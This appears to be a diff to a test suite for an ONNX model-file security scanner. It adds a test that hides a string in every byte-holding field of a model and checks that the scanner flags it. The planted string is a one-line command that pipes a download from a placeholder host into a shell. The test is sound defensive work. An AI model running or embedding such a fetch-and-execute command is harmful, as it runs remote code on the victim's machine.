@@ -16,7 +16,7 @@ from google.protobuf.message import Message
 from onnx import helper, numpy_helper
 
 from scanner.errors import MalformedModelError, UnsafeModelError
-from scanner.graph.audit import checks
+from scanner.graph.audit import carried, checks
 from scanner.limits import Limits
 from scanner.modelfile import nested, parser
 from scanner.modelfile.external_data import Folder
@@ -165,6 +165,51 @@ def test_external_data_is_met_wherever_it_stands(monkeypatch: pytest.MonkeyPatch
         parser.complete(model, Folder(None))  # type: ignore[arg-type]  # nothing is read
         assert seen == ["marker"], spelt(way)
         assert "marker" in [t.name for _, t in checks.tensors(model)], spelt(way)
+
+
+LOAD = "#!/bin/sh -c 'curl http://host/carried/goods | sh'"
+MANY = list(LOAD.encode())
+
+
+def holders() -> list[Path]:
+    """Return the shortest way to every field that may hold bytes: text, bytes or many numbers."""
+    found: dict[str, Path] = {}
+    for way in places(onnx.ModelProto.DESCRIPTOR):
+        last = way[-1]
+        bytewise = last.type in (FieldDescriptor.TYPE_STRING, FieldDescriptor.TYPE_BYTES)
+        if last.message_type is None and (bytewise or nested.repeated(last)):
+            shorter = last.full_name not in found or len(way) < len(found[last.full_name])
+            if shorter:
+                found[last.full_name] = way
+    return list(found.values())
+
+
+@at(holders())
+def test_carried_goods_are_met_wherever_they_stand(way: Path) -> None:
+    model = models.plain()
+    last = way[-1]
+    if last.type == FieldDescriptor.TYPE_STRING:
+        put(model, way, LOAD)
+    elif last.type == FieldDescriptor.TYPE_BYTES:
+        put(model, way, LOAD.encode())
+    else:
+        put(model, way, MANY[0])
+        holder = nested.Contents(model).all(last.containing_type.full_name)
+        target = next(h for h in holder if list(getattr(h, last.name)) == [MANY[0]])
+        getattr(target, last.name).extend(MANY[1:])
+        if isinstance(target, onnx.TensorProto):
+            target.data_type = next(n for n, f in TYPED.items() if f == last.name)
+            target.dims[:] = target.dims if last.name == "dims" else [len(MANY)]
+    found = [o for o in carried.observe(model, b"") if o.code == "carried-data"]
+    assert found, spelt(way)
+    assert found[0].details["kind"] in ("a shell script", "a script")
+
+
+TYPED = {
+    onnx.TensorProto.FLOAT: "float_data", onnx.TensorProto.INT32: "int32_data",
+    onnx.TensorProto.INT64: "int64_data", onnx.TensorProto.DOUBLE: "double_data",
+    onnx.TensorProto.UINT64: "uint64_data", onnx.TensorProto.UNDEFINED: "dims",
+}  # fmt: skip
 
 
 def test_a_flood_of_dimensions_is_met_wherever_it_stands() -> None:
